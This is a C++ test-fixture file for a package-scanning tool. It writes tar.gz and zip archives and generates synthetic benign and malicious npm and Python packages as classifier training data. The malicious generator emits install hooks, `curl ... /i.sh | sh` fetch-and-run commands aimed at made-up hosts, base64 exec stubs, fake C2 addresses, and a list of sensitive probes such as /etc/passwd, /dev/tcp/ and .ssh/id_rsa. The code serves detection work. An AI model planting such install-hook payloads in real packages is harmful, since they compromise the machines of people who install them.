#include "fixtures.hpp"

#include <unistd.h>
#include <zlib.h>

#include <atomic>
#include <cstdio>
#include <cstring>
#include <fstream>
#include <sstream>

namespace pkgscan::testing {

namespace fs = std::filesystem;

TempDir::TempDir(const std::string& tag) {
    static std::atomic<unsigned> counter{0};
    path_ = fs::temp_directory_path() /
            ("pkgscan-test-" + tag + "-" + std::to_string(::getpid()) + "-" +
             std::to_string(counter.fetch_add(1)));
    fs::create_directories(path_);
}

TempDir::~TempDir() {
    std::error_code ec;
    fs::remove_all(path_, ec);
}

std::string tar_bytes(const std::vector<Entry>& entries) {
    std::string out;
    for (const Entry& entry : entries) {
        char header[512];
        std::memset(header, 0, sizeof(header));
        std::snprintf(header, 100, "%s", entry.name.c_str());
        std::snprintf(header + 100, 8, "%07o", 0644);
        std::snprintf(header + 108, 8, "%07o", 0);
        std::snprintf(header + 116, 8, "%07o", 0);
        std::snprintf(header + 124, 12, "%011lo",
                      static_cast<unsigned long>(entry.content.size()));
        std::snprintf(header + 136, 12, "%011o", 0);
        header[156] = '0';
        std::memcpy(header + 257, "ustar", 5);
        header[262] = '\0';
        header[263] = '0';
        header[264] = '0';
        std::memset(header + 148, ' ', 8);
        unsigned checksum = 0;
        for (unsigned char c : header) checksum += c;
        std::snprintf(header + 148, 8, "%06o", checksum);
        header[154] = '\0';
        header[155] = ' ';
        out.append(header, 512);
        out.append(entry.content);
        const std::size_t pad = (512 - entry.content.size() % 512) % 512;
        out.append(pad, '\0');
    }
    out.append(1024, '\0');
    return out;
}

void gzip_to_file(const fs::path& out, const std::string& raw) {
    z_stream strm{};
    if (deflateInit2(&strm, Z_DEFAULT_COMPRESSION, Z_DEFLATED, 15 + 16, 8,
                     Z_DEFAULT_STRATEGY) != Z_OK) {
        throw std::runtime_error("deflateInit2 failed");
    }
    std::string compressed;
    compressed.resize(deflateBound(&strm, static_cast<uLong>(raw.size())));
    strm.next_in = reinterpret_cast<Bytef*>(const_cast<char*>(raw.data()));
    strm.avail_in = static_cast<uInt>(raw.size());
    strm.next_out = reinterpret_cast<Bytef*>(compressed.data());
    strm.avail_out = static_cast<uInt>(compressed.size());
    if (deflate(&strm, Z_FINISH) != Z_STREAM_END) {
        deflateEnd(&strm);
        throw std::runtime_error("deflate failed");
    }
    compressed.resize(compressed.size() - strm.avail_out);
    deflateEnd(&strm);

    std::ofstream f(out, std::ios::binary);
    f.write(compressed.data(), static_cast<std::streamsize>(compressed.size()));
}

void write_tar_gz(const fs::path& out, const std::vector<Entry>& entries) {
    gzip_to_file(out, tar_bytes(entries));
}

namespace {

void put16(std::string& s, std::uint16_t v) {
    s.push_back(static_cast<char>(v & 0xff));
    s.push_back(static_cast<char>(v >> 8));
}

void put32(std::string& s, std::uint32_t v) {
    for (int i = 0; i < 4; ++i) {
        s.push_back(static_cast<char>(v & 0xff));
        v >>= 8;
    }
}

std::string raw_deflate(const std::string& data) {
    z_stream strm{};
    if (deflateInit2(&strm, Z_DEFAULT_COMPRESSION, Z_DEFLATED, -15, 8,
                     Z_DEFAULT_STRATEGY) != Z_OK) {
        throw std::runtime_error("deflateInit2 failed");
    }
    std::string out;
    out.resize(deflateBound(&strm, static_cast<uLong>(data.size())) + 16);
    strm.next_in = reinterpret_cast<Bytef*>(const_cast<char*>(data.data()));
    strm.avail_in = static_cast<uInt>(data.size());
    strm.next_out = reinterpret_cast<Bytef*>(out.data());
    strm.avail_out = static_cast<uInt>(out.size());
    if (deflate(&strm, Z_FINISH) != Z_STREAM_END) {
        deflateEnd(&strm);
        throw std::runtime_error("raw deflate failed");
    }
    out.resize(out.size() - strm.avail_out);
    deflateEnd(&strm);
    return out;
}

}  // namespace

void write_zip(const fs::path& out, const std::vector<Entry>& entries, bool deflate) {
    std::string file;
    struct Central {
        std::string name;
        std::uint32_t crc, csize, usize, offset;
        std::uint16_t method;
    };
    std::vector<Central> centrals;

    for (const Entry& entry : entries) {
        const std::uint32_t crc = static_cast<std::uint32_t>(
            ::crc32(0L, reinterpret_cast<const Bytef*>(entry.content.data()),
                    static_cast<uInt>(entry.content.size())));
        std::string data = deflate ? raw_deflate(entry.content) : entry.content;
        Central c;
        c.name = entry.name;
        c.crc = crc;
        c.csize = static_cast<std::uint32_t>(data.size());
        c.usize = static_cast<std::uint32_t>(entry.content.size());
        c.offset = static_cast<std::uint32_t>(file.size());
        c.method = deflate ? 8 : 0;

        put32(file, 0x04034b50);
        put16(file, 20);        // version needed
        put16(file, 0);         // flags
        put16(file, c.method);
        put16(file, 0);         // mod time
        put16(file, 0);         // mod date
        put32(file, c.crc);
        put32(file, c.csize);
        put32(file, c.usize);
        put16(file, static_cast<std::uint16_t>(c.name.size()));
        put16(file, 0);         // extra len
        file += c.name;
        file += data;
        centrals.push_back(std::move(c));
    }

    const std::uint32_t cdir_offset = static_cast<std::uint32_t>(file.size());
    for (const Central& c : centrals) {
        put32(file, 0x02014b50);
        put16(file, 20);  // version made by
        put16(file, 20);  // version needed
        put16(file, 0);   // flags
        put16(file, c.method);
        put16(file, 0);   // time
        put16(file, 0);   // date
        put32(file, c.crc);
        put32(file, c.csize);
        put32(file, c.usize);
        put16(file, static_cast<std::uint16_t>(c.name.size()));
        put16(file, 0);   // extra
        put16(file, 0);   // comment
        put16(file, 0);   // disk
        put16(file, 0);   // internal attrs
        put32(file, 0);   // external attrs
        put32(file, c.offset);
        file += c.name;
    }
    const std::uint32_t cdir_size = static_cast<std::uint32_t>(file.size()) - cdir_offset;

    put32(file, 0x06054b50);
    put16(file, 0);
    put16(file, 0);
    put16(file, static_cast<std::uint16_t>(centrals.size()));
    put16(file, static_cast<std::uint16_t>(centrals.size()));
    put32(file, cdir_size);
    put32(file, cdir_offset);
    put16(file, 0);  // comment len

    std::ofstream f(out, std::ios::binary);
    f.write(file.data(), static_cast<std::streamsize>(file.size()));
}

void write_corrupt_archive(const fs::path& out) {
    std::ofstream f(out, std::ios::binary);
    const char bytes[] = {'\x1f', '\x8b', 'n', 'o', 't', ' ', 'g', 'z', 'i', 'p'};
    f.write(bytes, sizeof(bytes));
}

// ---------------------------------------------------------------------------
// synthetic packages

namespace {

const char* kWords[] = {
    "color",  "stream", "parse",  "config", "array",  "object", "string",
    "number", "helper", "logger", "router", "client", "server", "cache",
    "token",  "async",  "event",  "input",  "output", "format", "filter",
    "merge",  "clone",  "split",  "index",  "count",  "value",  "query",
    "model",  "utils",  "print",  "table",  "chart",  "image",  "sound"};

const char* kSensitiveSeeds[] = {
    "child_process", "subprocess", "/etc/passwd", "/dev/tcp/", "os.environ",
    "process.env",   "whoami",     ".ssh/id_rsa", "ngrok",     "ipify"};

std::string word(Rng& rng) {
    return kWords[rng.next_below(sizeof(kWords) / sizeof(kWords[0]))];
}

std::string random_base64_blob(Rng& rng, std::size_t min_len, std::size_t max_len) {
    static const char alphabet[] =
        "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    std::size_t len = min_len + rng.next_below(max_len - min_len + 1);
    len -= len % 4;  // keep it decodable
    std::string blob;
    for (std::size_t i = 0; i < len; ++i) {
        blob += alphabet[rng.next_below(64)];
    }
    return blob;
}

std::string random_host(Rng& rng) {
    return word(rng) + "-" + word(rng) + (rng.next_below(2) ? ".xyz" : ".top");
}

std::string random_ip(Rng& rng) {
    std::ostringstream out;
    out << (1 + rng.next_below(223)) << '.' << rng.next_below(256) << '.'
        << rng.next_below(256) << '.' << (1 + rng.next_below(254));
    return out.str();
}

std::string benign_js(Rng& rng) {
    std::ostringstream src;
    const std::size_t funcs = 1 + rng.next_below(4);
    for (std::size_t i = 0; i < funcs; ++i) {
        const std::string a = word(rng), b = word(rng);
        src << "function " << a << "_" << b << "(x, y) {\n"
            << "  const " << word(rng) << " = x + y;\n"
            << "  return String(x) + \"" << word(rng) << "\";\n"
            << "}\n";
    }
    if (rng.next_below(10) < 3) {
        src << "// docs\nconst homepage = \"https://example.org/" << word(rng) << "\";\n";
    }
    src << "module.exports = { " << word(rng) << ": 1 };\n";
    return src.str();
}

std::string benign_py(Rng& rng) {
    std::ostringstream src;
    src << "import json\n\n";
    const std::size_t funcs = 1 + rng.next_below(3);
    for (std::size_t i = 0; i < funcs; ++i) {
        src << "def " << word(rng) << "_" << word(rng) << "(data):\n"
            << "    result = [x for x in data if x]\n"
            << "    return json.dumps({\"" << word(rng) << "\": result})\n\n";
    }
    if (rng.next_below(10) < 3) {
        src << "DOCS = \"https://example.org/" << word(rng) << "\"\n";
    }
    return src.str();
}

std::string malicious_payload(Rng& rng, bool js) {
    std::ostringstream src;
    const std::size_t blobs = 1 + rng.next_below(3);
    for (std::size_t i = 0; i < blobs; ++i) {
        src << (js ? "var " : "") << "p" << i << (js ? " = \"" : " = \"")
            << random_base64_blob(rng, 40, 160) << "\"" << (js ? ";" : "") << "\n";
    }
    const std::string seed =
        kSensitiveSeeds[rng.next_below(sizeof(kSensitiveSeeds) / sizeof(char*))];
    if (js) {
        src << "var cp = require(\"child_process\");\n";
        if (rng.next_below(10) < 7) {
            src << "cp.exec(\"curl http://" << random_host(rng) << "/i.sh | sh\");\n";
        }
        if (rng.next_below(10) < 4) {
            src << "var c2 = \"" << random_ip(rng) << ":" << (1024 + rng.next_below(40000))
                << "\";\n";
        }
        src << "var probe = \"" << seed << "\";\n";
        if (rng.next_below(10) < 4) {
            src << "var _0x" << to_hex(rng.next_u64()).substr(0, 6) << " = p0;\n";
        }
    } else {
        src << "import base64\nimport subprocess\n";
        if (rng.next_below(10) < 7) {
            src << "subprocess.run(\"curl http://" << random_host(rng)
                << "/i.sh | sh\", shell=True)\n";
        }
        if (rng.next_below(10) < 4) {
            src << "C2 = \"" << random_ip(rng) << "\"\n";
        }
        src << "PROBE = \"" << seed << "\"\n";
        src << "exec(base64.b64decode(p0))\n";
    }
    return src.str();
}

void add_file(PackageArtifact& artifact, std::string path, std::string content) {
    PackageFile file;
    file.rel_path = std::move(path);
    file.byte_size = content.size();
    file.content = std::move(content);
    artifact.files.push_back(std::move(file));
}

}  // namespace

PackageArtifact synth_package(Rng& rng, Ecosystem eco, bool malicious) {
    PackageArtifact artifact;
    artifact.ecosystem = eco;
    artifact.name = word(rng) + "-" + word(rng) + "-" + std::to_string(rng.next_below(100000));
    artifact.version = std::to_string(rng.next_below(5)) + "." +
                       std::to_string(rng.next_below(10)) + "." +
                       std::to_string(rng.next_below(10));
    artifact.archive_format = eco == Ecosystem::npm ? "tgz" : "sdist";

    if (eco == Ecosystem::npm) {
        std::ostringstream pkg;
        pkg << "{\"name\":\"" << artifact.name << "\",\"version\":\"" << artifact.version
            << "\"";
        if (malicious && rng.next_below(100) < 85) {
            static const char* hooks[] = {"preinstall", "install", "postinstall"};
            pkg << ",\"scripts\":{\"" << hooks[rng.next_below(3)] << "\":\"node index.js\"}";
        } else if (!malicious && rng.next_below(100) < 2) {
            pkg << ",\"scripts\":{\"postinstall\":\"node scripts/setup.js\"}";
        } else {
            pkg << ",\"scripts\":{\"test\":\"node test.js\"}";
        }
        pkg << "}";
        add_file(artifact, "package/package.json", pkg.str());
        add_file(artifact, "package/index.js",
                 malicious ? malicious_payload(rng, true) : benign_js(rng));
        if (!malicious && rng.next_below(10) < 5) {
            add_file(artifact, "package/lib/util.js", benign_js(rng));
        }
        const std::size_t md_chance = malicious ? 15 : 85;
        if (rng.next_below(100) < md_chance) {
            add_file(artifact, "package/README.md",
                     "# " + artifact.name + "\n\nA " + word(rng) + " helper.\n");
        }
    } else {
        const std::string root = artifact.name + "-" + artifact.version;
        const bool sdist_with_setup = malicious ? rng.next_below(100) < 90
                                                : rng.next_below(100) < 30;
        if (sdist_with_setup) {
            std::ostringstream setup;
            setup << "from setuptools import setup\n\n";
            if (malicious) {
                setup << malicious_payload(rng, false);
            }
            setup << "setup(name=\"" << artifact.name << "\", version=\"" << artifact.version
                  << "\")\n";
            add_file(artifact, root + "/setup.py", setup.str());
        }
        add_file(artifact, root + "/" + word(rng) + ".py",
                 malicious ? malicious_payload(rng, false) : benign_py(rng));
        if (!malicious && rng.next_below(10) < 6) {
            add_file(artifact, root + "/helpers.py", benign_py(rng));
        }
        const std::size_t md_chance = malicious ? 20 : 80;
        if (rng.next_below(100) < md_chance) {
            add_file(artifact, root + "/README.md", "# " + artifact.name + "\n");
        }
    }
    return classify_files(std::move(artifact));
}

Dataset synth_dataset(std::uint64_t seed, Ecosystem eco, std::size_t n_mal,
                      std::size_t n_benign, const FeatureSchema& schema,
                      const SensitiveDictionary& dict) {
    Rng rng(seed);
    Dataset ds;
    ds.schema_version = schema.version;
    ds.provenance = "synthetic";
    for (std::size_t i = 0; i < n_mal + n_benign; ++i) {
        const bool malicious = i < n_mal;
        PackageArtifact artifact = synth_package(rng, eco, malicious);
        LabeledSample sample;
        sample.label = malicious ? Label::malicious : Label::benign;
        sample.ecosystem = eco;
        sample.name = artifact.name;
        sample.version = artifact.version;
        sample.feature_vector = extract_features(artifact, schema, dict);
        ds.samples.push_back(std::move(sample));
    }
    return ds;
}

std::filesystem::path write_synth_archive(const fs::path& dir, Rng& rng, Ecosystem eco,
                                          bool malicious, const std::string& name) {
    PackageArtifact artifact = synth_package(rng, eco, malicious);
    std::vector<Entry> entries;
    for (const PackageFile& file : artifact.files) {
        entries.push_back(Entry{file.rel_path, file.content});
    }
    const fs::path out = dir / (name + (eco == Ecosystem::npm ? ".tgz" : ".tar.gz"));
    write_tar_gz(out, entries);
    return out;
}

}  // namespace pkgscan::testing
